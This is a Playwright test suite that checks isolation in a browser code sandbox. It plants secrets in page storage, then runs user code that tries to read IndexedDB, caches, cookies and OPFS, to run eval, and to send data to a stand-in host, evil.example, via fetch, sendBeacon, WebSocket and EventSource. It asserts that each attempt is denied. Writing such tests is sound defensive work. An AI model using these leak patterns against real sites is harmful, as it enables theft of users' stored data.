import { expect, type Page } from '@playwright/test';
import { run, runCode, test, text, untilState } from './playground';

test.use({ userHosts: ['cdn.jsdelivr.net', 'evil.example'] });

const secret = 'known to the page alone';

/** Puts the secret wherever a page can store. */
const plant = (page: Page) =>
  page.evaluate(async (secret) => {
    await new Promise<void>((resolve, reject) => {
      const request = indexedDB.open('secrets');
      request.onupgradeneeded = () => request.result.createObjectStore('secrets').put(secret, 'secret');
      request.onsuccess = () => resolve();
      request.onerror = () => reject(request.error);
    });
    await (await caches.open('secrets')).put('/secret', new Response(secret));
    localStorage.setItem('secret', secret);
    await cookieStore.set('secret', encodeURIComponent(secret));
    const file = await (await navigator.storage.getDirectory()).getFileHandle('secret', { create: true });
    const writable = await file.createWritable();
    await writable.write(secret);
    await writable.close();
  }, secret);

/** An app that tries each way in, and tells what came of it as JSON. */
const attempting = (attempts: string) => `import * as yc from 'yieldcast';
const scope: any = globalThis;
const attempts: Record<string, () => unknown> = ${attempts};

export default yc.Interface({
  fn: async function* () {
    const came: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        came[name] = 'got ' + String(await attempt());
      } catch (error: any) {
        came[name] = 'denied: ' + (error?.name ?? error?.type ?? error);
      }
    }
    yield JSON.stringify(came);
  },
  inputs: [],
  outputs: yc.Textbox({ label: 'Out' }),
});`;

const cameOf = async (page: Page): Promise<Record<string, string>> => {
  await untilState(page, 'done');
  await expect(text(page)).toHaveValue(/^\{/);
  return JSON.parse(await text(page).inputValue());
};

/** Opens the page, has it hold secrets, and runs the attempts there. */
const attempt = async (page: Page, attempts: string) => {
  await page.goto('./');
  await plant(page);
  await runCode(page, attempting(attempts), 'done');
  return cameOf(page);
};

const denied = expect.stringMatching(/^denied: /);

test('user code has an origin of its own, and none of the page’s storage', async ({ page }) => {
  const came = await attempt(
    page,
    `{
      origin: () => scope.origin,
      indexedDB: () => new Promise((resolve, reject) => {
        const request = scope.indexedDB.open('secrets');
        request.onsuccess = () => resolve([...request.result.objectStoreNames].join());
        request.onerror = () => reject(request.error);
      }),
      databases: async () => (await scope.indexedDB.databases()).length,
      caches: async () => (await (await scope.caches.open('secrets')).match('/secret')).text(),
      opfs: async () => (await (await scope.navigator.storage.getDirectory()).getFileHandle('secret')).name,
      localStorage: () => scope.localStorage.getItem('secret'),
      sessionStorage: () => scope.sessionStorage.length,
      cookies: () => scope.document.cookie,
      cookieStore: async () => (await scope.cookieStore.getAll()).length,
      locks: async () => (await scope.navigator.locks.query()).held.length,
      serviceWorker: () => scope.navigator.serviceWorker.register('data:text/javascript,'),
      page: () => scope.parent.document.title,
    }`,
  );
  const { origin, ...rest } = came;
  expect(origin).toBe('got null');
  expect(Object.values(rest)).toHaveLength(11);
  for (const [way, what] of Object.entries(rest)) expect(`${way} ${what}`).toMatch(/^\w+ denied: /);
});

test('user code makes no code of text', async ({ page }) => {
  const came = await attempt(
    page,
    `{
      eval: () => (0, eval)('1 + 1'),
      Function: () => new Function('return 2')(),
      AsyncFunction: () => Object.getPrototypeOf(async () => {}).constructor('return 2')(),
      timeout: () => new Promise((resolve, reject) => {
        scope.leak = () => resolve('ran');
        scope.setTimeout('leak()', 0);
        scope.setTimeout(() => reject('silence'), 100);
      }),
    }`,
  );
  expect(came).toEqual({ eval: denied, Function: denied, AsyncFunction: denied, timeout: denied });
});

test('user code reads no file of the site, and asks no host that the policy does not name', async ({
  page,
  context,
  baseURL,
}) => {
  const asked: string[] = [];
  const note = (url: string) => asked.push(url);
  const requested: string[] = [];
  context.on('request', (request) => requested.push(request.url()));
  const headers = { 'access-control-allow-origin': '*' };
  await context.route('https://evil.example/**', (route) => {
    note(route.request().url());
    return route.fulfill({ headers, contentType: 'text/javascript', body: 'export default "evil"' });
  });
  await context.route('https://cdn.jsdelivr.net/**', (route) =>
    route.fulfill({ headers, contentType: 'text/javascript', body: 'export default "known"' }),
  );
  const site = JSON.stringify(baseURL);
  const came = await attempt(
    page,
    `{
      file: async () => (await fetch(${site} + 'embed.js')).text(),
      page: async () => (await fetch(${site})).text(),
      module: async () => Object.keys(await import(${site} + 'embed.js')).join(),
      script: () => scope.importScripts(${site} + 'embed.js'),
      request: () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(request.responseText);
        request.onerror = () => reject('refused');
        request.open('GET', ${site} + 'embed.js');
        request.send();
      }),
      elsewhere: async () => (await fetch('https://evil.example/?leak')).text(),
      opaque: async () => (await fetch('https://evil.example/?leak', { mode: 'no-cors' })).type,
      importElsewhere: async () => (await import('https://evil.example/x.js')).default,
      beacon: () => scope.navigator.sendBeacon('https://evil.example/?leak', 'x') || Promise.reject('refused'),
      socket: () => new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://evil.example/');
        socket.onopen = () => resolve('open');
        socket.onerror = () => reject('refused');
      }),
      events: () => new Promise((resolve, reject) => {
        const source = new EventSource('https://evil.example/events');
        source.onopen = () => resolve('open');
        source.onerror = () => { source.close(); reject('refused'); };
      }),
      known: async () => (await fetch('https://cdn.jsdelivr.net/x.js')).text(),
      importKnown: async () => (await import('https://cdn.jsdelivr.net/x.js')).default,
    }`,
  );
  const { known, importKnown, ...rest } = came;
  // Those that the policy names do answer: so the others were refused by it, and not by the network.
  expect([known, importKnown]).toEqual(['got export default "known"', 'got known']);
  // What a worker asks for is seen by the watch that every test keeps on requests.
  expect(requested).toContain('https://cdn.jsdelivr.net/x.js');
  expect(Object.values(rest)).toHaveLength(11);
  for (const [way, what] of Object.entries(rest)) expect(`${way} ${what}`).toMatch(/^\w+ denied: /);
  expect(asked).toEqual([]);
});

test('a worker that user code starts is bound as it is', async ({ page, context, baseURL }) => {
  const asked: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'evil' });
  });
  const inner = `
    const came = { origin: String(self.origin) };
    const attempt = (name, what) => Promise.resolve().then(what).then((got) => { came[name] = 'got ' + got; }, (error) => { came[name] = 'denied: ' + error; });
    Promise.all([
      attempt('indexedDB', () => new Promise((resolve, reject) => { const request = indexedDB.open('secrets'); request.onsuccess = () => resolve('open'); request.onerror = () => reject(request.error); })),
      attempt('caches', () => caches.open('secrets')),
      attempt('opfs', () => navigator.storage.getDirectory()),
      attempt('file', async () => (await fetch(${JSON.stringify(baseURL)} + 'embed.js')).text()),
      attempt('elsewhere', async () => (await fetch('https://evil.example/?leak')).text()),
      attempt('eval', () => (0, eval)('1 + 1')),
    ]).then(() => postMessage(came));`;
  const came = await attempt(
    page,
    `{
      data: () => new Promise((resolve, reject) => {
        const worker = new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(inner)}));
        worker.onmessage = ({ data }) => resolve(JSON.stringify(data));
        worker.onerror = (event) => reject(event);
      }),
      blob: () => new Promise((resolve, reject) => {
        const url = URL.createObjectURL(new Blob([${JSON.stringify(inner)}], { type: 'text/javascript' }));
        const worker = new Worker(url);
        worker.onmessage = ({ data }) => resolve(JSON.stringify(data));
        worker.onerror = (event) => reject(event);
      }),
      site: () => new Promise((resolve, reject) => {
        const worker = new Worker(${JSON.stringify(baseURL)} + 'embed.js');
        worker.onmessage = () => resolve('started');
        worker.onerror = (event) => reject(event);
      }),
    }`,
  );
  expect(came.site).toEqual(denied);
  expect(came.blob).toEqual(denied);
  expect(came.data).toMatch(/^got /);
  const { origin, ...rest } = JSON.parse(came.data?.slice('got '.length) ?? '{}');
  expect(origin).toBe('null');
  expect(rest).toEqual({
    indexedDB: denied,
    caches: denied,
    opfs: denied,
    file: denied,
    elsewhere: denied,
    eval: denied,
  });
  expect(asked).toEqual([]);
});

test('the workers of yc.parallel are bound as the sketch is', async ({ page, context, baseURL }) => {
  const asked: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'evil' });
  });
  await context.route('https://cdn.jsdelivr.net/**', (route) =>
    route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'known' }),
  );
  const site = JSON.stringify(baseURL);
  const came = await attempt(
    page,
    `{
      parallel: async () => JSON.stringify(Object.fromEntries(await yc.parallel(
        ['name', 'origin', 'known', 'indexedDB', 'caches', 'opfs', 'file', 'elsewhere', 'eval'],
        async (way): Promise<[string, string]> => {
          const ways: Record<string, () => unknown> = {
            name: () => self.name,
            origin: () => self.origin,
            known: async () => (await fetch('https://cdn.jsdelivr.net/x')).text(),
            indexedDB: () => new Promise((resolve, reject) => {
              const request = indexedDB.open('secrets');
              request.onsuccess = () => resolve('open');
              request.onerror = () => reject(request.error);
            }),
            caches: () => caches.open('secrets'),
            opfs: () => navigator.storage.getDirectory(),
            file: async () => (await fetch(${site} + 'embed.js')).text(),
            elsewhere: async () => (await fetch('https://evil.example/?leak')).text(),
            eval: () => (0, eval)('1 + 1'),
          };
          try {
            return [way, 'got ' + (await ways[way]?.())];
          } catch (error) {
            return [way, 'denied: ' + error];
          }
        },
        { workers: 2 },
      ).all())),
    }`,
  );
  expect(came.parallel).toMatch(/^got /);
  expect(JSON.parse(came.parallel?.slice('got '.length) ?? '{}')).toEqual({
    name: 'got yieldcast-parallel',
    origin: 'got null',
    known: 'got known',
    indexedDB: denied,
    caches: denied,
    opfs: denied,
    file: denied,
    elsewhere: denied,
    eval: denied,
  });
  expect(asked).toEqual([]);
});

test('what a sketch leaves in its globals is gone at the next Run, and never reaches the page', async ({ page }) => {
  const code = `import * as yc from 'yieldcast';
    const before = globalThis.mark;
    globalThis.mark = 'left behind';
    Array.prototype.mark = 'left behind';
    export default yc.Interface({ fn: () => String(before), outputs: yc.Textbox({ label: 'Out' }) });`;
  await runCode(page, code, 'done');
  await expect(text(page)).toHaveValue('undefined');
  await run(page);
  await untilState(page, 'done');
  await expect(text(page)).toHaveValue('undefined');
  expect(await page.evaluate(() => 'mark' in globalThis || 'mark' in [])).toBe(false);
});
